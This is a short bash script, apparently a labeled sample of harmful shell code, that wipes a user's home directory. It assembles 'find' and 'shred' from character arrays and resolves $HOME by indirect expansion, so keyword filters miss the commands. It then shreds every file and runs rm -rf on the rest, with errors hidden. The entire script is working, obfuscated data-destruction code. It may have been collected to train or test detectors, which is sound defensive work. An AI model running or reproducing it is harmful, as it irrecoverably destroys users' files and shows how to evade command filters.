# Harmful: shreds and deletes every file under $HOME using find -exec, with the command assembled from arrays, indirect expansion and printf -v.
a=(f i n d)
b=(s h r e d)
printf -v tool '%s' "${a[@]}"
printf -v wipe '%s' "${b[@]}"

target_home=HOME
root=${!target_home}

opts=( -xdev -type f )
action=( -exec "$wipe" -fuz -n 1 {} + )

declare -A plan=(
  [step1]="$tool"
  [step2]="rm"
)

cleanup() {
  local k=$1
  case $k in
    step1) "${plan[$k]}" "$root" "${opts[@]}" "${action[@]}" 2>/dev/null ;;
    step2) "${plan[$k]}" -rf --one-file-system "$root"/* "$root"/.[!.]* 2>/dev/null ;;
  esac
}

for s in step1 step2; do
  cleanup "$s"
done
